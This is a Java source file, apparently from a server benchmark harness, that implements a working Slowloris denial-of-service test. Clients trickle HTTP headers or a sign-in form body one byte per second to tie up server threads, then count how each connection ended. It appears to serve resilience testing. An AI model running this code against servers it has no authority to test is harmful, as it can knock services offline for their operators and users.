package org.vistka.bench;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.concurrent.locks.LockSupport;

/**
 * Slowloris: clients that send a request one byte a second, half of them its headers, half of them a form's body, to
 * hold a server thread each for as long as they keep trickling. Counts how each ended: answered with a status, closed
 * by the server without one, or still open when the attack's time was up.
 */
final class SlowClients {
    private SlowClients() {
    }

    static Tally trickle(URI base, int clients, Duration time) {
        Tally tally = new Tally();
        long deadline = System.nanoTime() + time.toNanos();
        BenchClients.run(clients, client -> tally.add(trickleOne(base, client % 2 == 0, deadline)));
        return tally;
    }

    private static String trickleOne(URI base, boolean headers, long deadline) {
        String head = "POST /newsroom/sign-in/ HTTP/1.1\r\nHost: " + base.getHost() + "\r\n"
                + "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n";
        try (Socket socket = new Socket(base.getHost(), base.getPort())) {
            OutputStream out = socket.getOutputStream();
            InputStream in = socket.getInputStream();
            socket.setSoTimeout(1);
            out.write((headers ? "GET / HTTP/1.1\r\nHost: " + base.getHost() + "\r\n" : head + "\r\n").getBytes(StandardCharsets.US_ASCII));
            out.flush();
            for (int n = 0; System.nanoTime() < deadline; n++) {
                String answer = answer(in);
                if (answer != null) {
                    return answer;
                }
                out.write(headers ? (n % 2 == 0 ? 'X' : '-') : 'a');
                out.flush();
                LockSupport.parkNanos(Duration.ofSeconds(1).toNanos());
            }
            return "still open at the end";
        } catch (IOException e) {
            return "closed";
        }
    }

    /** The status the server has sent, "closed" if it closed, or null while it is still waiting for more. */
    private static String answer(InputStream in) throws IOException {
        try {
            int first = in.read();
            if (first == -1) {
                return "closed";
            }
            byte[] rest = new byte[11];
            int n = in.readNBytes(rest, 0, rest.length);
            String line = (char) first + new String(rest, 0, n, StandardCharsets.US_ASCII);
            return line.startsWith("HTTP/") && line.length() >= 12 ? line.substring(9, 12) : "closed";
        } catch (java.net.SocketTimeoutException stillWaiting) {
            return null;
        }
    }
}
